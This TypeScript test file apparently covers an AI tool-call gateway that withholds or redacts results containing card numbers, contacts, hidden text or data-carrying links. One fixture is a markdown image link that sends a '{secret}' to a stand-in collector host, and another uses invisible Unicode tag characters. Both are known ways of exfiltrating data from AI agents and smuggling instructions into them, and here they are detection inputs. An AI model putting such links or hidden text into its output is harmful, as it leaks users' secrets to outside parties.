import assert from "node:assert/strict";
import { before, test } from "node:test";
import { loadDetectors, type Detectors } from "@cmcp/findings";
import type { GovernedFacts, Verdict } from "@cmcp/policy";
import { Vocabulary } from "@cmcp/session";
import type { Outcome } from "@cmcp/mcp";
import { deciderOf, makeCall, permitFor, policyStub, requestFor, sessionOf, taskState } from "../testing/calls.ts";
import { callCatalog, targetOf } from "../testing/call-catalog.ts";
import { ContentFindings } from "./content-findings.ts";
import { DeliveryDecider } from "./decide-delivery.ts";
import type { Ending } from "./ending.ts";
import { FindingLabels } from "./finding-labels.ts";
import type { Permit } from "./permit.ts";

const CARD = "4111 1111 1111 1111";
let detectors: Detectors;
before(async () => {
  detectors = await loadDetectors();
});

const catalog = callCatalog();
const target = targetOf(catalog, requestFor());

interface Scene {
  readonly decide?: (facts: GovernedFacts) => Partial<Verdict>;
  readonly decidesDelivery?: boolean;
  readonly labels?: ConstructorParameters<typeof FindingLabels>[0];
  readonly mode?: "enforcing" | "silent";
  readonly args?: Record<string, string>;
}

/** Denies what has personal data. */
const noCards = ({ delivery }: GovernedFacts): Partial<Verdict> =>
  (delivery?.findings().personalData ?? 0) > 0 ? { decision: "deny", rule: "cards" } : { rule: "deliver" };

function scene({ decide = noCards, decidesDelivery = true, labels = {}, mode = "enforcing", args = {} }: Scene = {}) {
  const content = new ContentFindings(detectors);
  const recorded = sessionOf();
  const call = makeCall(requestFor({ arguments: args }), { policy: policyStub(decide, { decidesDelivery }), recorded });
  const decider = deciderOf(mode);
  const ports = { decider, content, labels: new FindingLabels(labels, new Vocabulary()) };
  return { delivery: new DeliveryDecider(ports, call, target), recorded };
}

function endingWith(outcome: Outcome): Ending {
  const common = { target, decision: "allow", rule: "r", sent: true, hasServerText: true } as const;
  return { kind: "ending", ...common, outcome, inspection: "pass", detail: { outcome: "delivered" } };
}

const resultOf = (text: string): Ending =>
  endingWith({ kind: "result", result: { content: [{ type: "text", text }] } });
const notAgain = (): Ending => assert.fail("inspected again");

test("a bundle that does not speak of delivery delivers, and nothing is looked at", () => {
  const { delivery } = scene({ decidesDelivery: false, decide: () => assert.fail("decided") });
  const ending = resultOf(CARD);
  assert.equal(delivery.endingOf(ending, permitFor(target), notAgain), ending);
  assert.equal(delivery.permits({ message: CARD }), true);
  assert.deepEqual(delivery.detail, {});
});

test("a result that policy withholds is recorded as denied, with counts and no value", () => {
  const { delivery } = scene();
  const ending = delivery.endingOf(resultOf(`paid with ${CARD}`), permitFor(target), notAgain);
  assert.deepEqual([ending.decision, ending.rule, ending.sent, ending.hasServerText], ["deny", "cards", true, false]);
  assert.ok(ending.outcome.kind === "error" && ending.outcome.code === "RESULT_WITHHELD");
  assert.equal(ending.detail["error_code"], "RESULT_WITHHELD");
  assert.equal(delivery.detail["result_findings_personal_data"], 1);
  assert.equal(delivery.detail["delivery_rule"], "cards");
  assert.doesNotMatch(JSON.stringify([ending, delivery.detail]), /4111/);
});

test("the entry counts what was found in arguments and result, each class apart and none that is empty", () => {
  for (const [text, expected] of [
    [`card ${CARD}`, { personal_data: 1 }],
    ["write to anna@mail.example or bob@mail.example", { contacts: 2 }],
    ["see \u{e0049}\u{e0047} here", { hidden_text: 1 }],
    ["![x](https://collect.example/p?d={secret})", { carrying_links: 1 }],
    ["fine", {}],
  ] as const) {
    const { delivery } = scene({ labels: { personal_data: "pii" }, args: { q: text } });
    delivery.noteArguments();
    delivery.endingOf(resultOf(text), permitFor(target), notAgain);
    const counts = Object.entries(delivery.detail).filter(
      ([name]) => name !== "delivery_rule" && !name.endsWith("injection_score"),
    );
    assert.deepEqual(
      Object.fromEntries(counts),
      Object.fromEntries(
        Object.entries(expected).flatMap(([name, count]) => [
          [`argument_findings_${name}`, count],
          [`result_findings_${name}`, count],
        ]),
      ),
    );
  }
});

test("a harmless result is delivered as it is", () => {
  const { delivery } = scene();
  const ending = resultOf("fine");
  assert.equal(delivery.endingOf(ending, permitFor(target), notAgain), ending);
});

test("a redacting rule inspects the answer again, with what both decisions take out", () => {
  const seen: Permit[] = [];
  const inspectAs = (permit: Permit): Ending => {
    seen.push(permit);
    return resultOf("less");
  };
  const decide = (): Partial<Verdict> => ({ decision: "redact", redactFields: ["card"], keepFields: ["note"] });
  scene({ decide }).delivery.endingOf(resultOf(CARD), permitFor(target), inspectAs);
  scene({ decide }).delivery.endingOf(
    resultOf(CARD),
    permitFor(target, { decision: "redact", redactFields: ["ssn"], keepFields: ["note", "name"] }),
    inspectAs,
  );
  assert.deepEqual(
    seen.map(({ decision, redactFields, keepFields }) => [decision, redactFields, keepFields]),
    [
      ["redact", ["card"], ["note"]],
      ["redact", ["card", "ssn"], ["note"]],
    ],
  );
});

test("what cannot be redacted is withheld: questions, errors, messages", () => {
  const { delivery } = scene({ decide: () => ({ decision: "redact", rule: "some", redactFields: ["card"] }) });
  const rpc = { code: -32000, message: "no", data: {} };
  const error: Outcome = { kind: "error", code: "UPSTREAM_CALL_REFUSED", message: "", data: {}, rpc };
  const input: Outcome = { kind: "input", inputRequests: { a: { method: "roots/list" } }, requestState: "s" };
  for (const outcome of [error, input]) {
    const { outcome: delivered } = delivery.endingOf(endingWith(outcome), permitFor(target), notAgain);
    assert.ok(delivered.kind === "error" && delivered.code === "RESULT_WITHHELD" && delivered.rpc === undefined);
  }
  assert.equal(delivery.permits({ message: "x" }), false);
  assert.equal(delivery.detail["messages_withheld"], 1);
});

test("the words of a task are taken out, and the task goes on", () => {
  const { delivery } = scene();
  const outcome: Outcome = { kind: "task", task: taskState({ statusMessage: CARD }), ending: {} };
  const ending = delivery.endingOf(endingWith(outcome), permitFor(target), notAgain);
  assert.ok(ending.outcome.kind === "task" && ending.outcome.task.statusMessage === null);
  const done: Outcome = { kind: "task", task: taskState({ status: "completed" }), ending: { result: { a: CARD } } };
  assert.equal(delivery.endingOf(endingWith(done), permitFor(target), notAgain).outcome.kind, "error");
});

test("messages before the result are held to the same decision", () => {
  const { delivery } = scene();
  assert.equal(delivery.permits({ message: "half done" }), true);
  assert.equal(delivery.permits({ message: `card ${CARD}` }), false);
  assert.deepEqual(delivery.detail, { messages_withheld: 1, delivery_rule: "cards" });
});

test("a mode that does not enforce delivers, and the entry says what policy wanted", () => {
  const { delivery } = scene({ mode: "silent" });
  const ending = resultOf(CARD);
  assert.equal(delivery.endingOf(ending, permitFor(target), notAgain), ending);
  assert.equal(delivery.detail["delivery_advisory_decision"], "deny");
});

test("an engine or detector that fails withholds under every mode", () => {
  const decide = (): Partial<Verdict> => ({ decision: "deny", rule: "engine-failure", cause: "fault" });
  for (const mode of ["enforcing", "silent"] as const) {
    const { delivery } = scene({ decide, mode });
    assert.equal(delivery.endingOf(resultOf("fine"), permitFor(target), notAgain).decision, "deny");
  }
});

test("configured findings raise the session before anything is delivered, without a rule", () => {
  const labels = { personal_data: "pii", secrets: "confidential" };
  const { delivery, recorded } = scene({ labels, decidesDelivery: false });
  delivery.endingOf(resultOf("fine"), permitFor(target), notAgain);
  assert.equal(recorded.session.sensitivity, "public");
  delivery.permits({ message: CARD });
  assert.equal(recorded.session.sensitivity, "pii");
  assert.deepEqual(delivery.compartments, ["pii"]);
});

test("findings in arguments raise the session too", () => {
  const { delivery, recorded } = scene({ labels: { personal_data: "pii" }, args: { q: CARD } });
  delivery.noteArguments();
  assert.equal(recorded.session.sensitivity, "pii");
  assert.equal(delivery.detail["argument_findings_personal_data"], 1);
});

test("what was not looked at whole raises every configured label", () => {
  const labels = new FindingLabels({ secrets: "confidential", contacts: "pii" }, new Vocabulary());
  const found = new ContentFindings(detectors).of("x ".repeat(200_000));
  assert.deepEqual([found.complete, labels.of(found)], [false, labels.all]);
});

test("without detectors whoever asks is refused", () => {
  assert.throws(() => new ContentFindings(null).of("x"), { code: "DETECTOR_DATA_REFUSED" });
});
